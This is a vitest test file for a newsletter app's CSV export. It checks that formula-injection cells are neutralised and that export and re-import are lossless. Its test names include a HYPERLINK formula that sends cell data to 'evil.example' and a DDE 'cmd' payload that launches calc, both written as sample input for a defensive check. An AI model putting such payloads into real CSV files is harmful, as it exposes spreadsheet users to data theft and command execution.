import { parse } from 'csv-parse/sync';
import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { exportCsv, importCsv } from '../../src/send/csv.js';
import { neutraliseCell, restoreCell } from '../../src/send/csv-formula.js';
import { openDatabase } from '../../src/send/database.js';
import { listSubscribers, setSubscriberState, upsertSubscriber } from '../../src/send/subscribers.js';

async function freshDatabase() {
  return openDatabase(join(await mkdtemp(join(tmpdir(), 'sahifa-issue-9-')), 'sahifa.db'));
}

/** Names a spreadsheet would run, and names that only look close to them. */
const NAMES = [
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''+two quotes",
  "'just an apostrophe",
  "'",
  ' padded name ',
  'comma, "quote" and\nline',
  'سارة = مديرة',
  '',
];
const ADDRESSES = ['=x@example.com', '-dash@example.com', '+tag@example.com', "'q@example.com", 'plain@example.com'];

describe('issue 9: CSV export cannot inject formulas, and export → import is lossless', () => {
  it('quotes every cell a spreadsheet would run, and import undoes exactly that quote', () => {
    for (const value of [...NAMES, ...ADDRESSES, '=', '@', '\t', "'\t", "'''-"]) {
      const cell = neutraliseCell(value);
      expect(cell, JSON.stringify(value)).not.toMatch(/^[=+\-@\t\r]/);
      expect(restoreCell(cell), JSON.stringify(value)).toBe(value);
    }
  });

  it('writes no cell that starts a formula, and reads back every subscriber exactly', async () => {
    const db = await freshDatabase();
    NAMES.forEach((name, index) => upsertSubscriber(db, `n${index}@example.com`, { name: name || undefined, lang: index % 2 ? 'ar' : undefined }));
    for (const address of ADDRESSES) upsertSubscriber(db, address, { name: address });
    setSubscriberState(db, '=x@example.com', 'unsubscribed');
    setSubscriberState(db, '-dash@example.com', 'bounced');

    const csv = exportCsv(db);
    const cells = (parse(csv) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(csv).toContain(`'=HYPERLINK(`);
    expect(csv).toContain(`'=x@example.com`);

    const copy = await freshDatabase();
    expect(importCsv(copy, csv)).toMatchObject({ added: NAMES.length + ADDRESSES.length, bad: [] });
    const strip = (list: ReturnType<typeof listSubscribers>) => list.map(({ email, name, lang, state, created_at }) => ({ email, name, lang, state, created_at }));
    expect(strip(listSubscribers(copy))).toEqual(strip(listSubscribers(db)));
    expect(exportCsv(copy)).toBe(csv);
  });
});
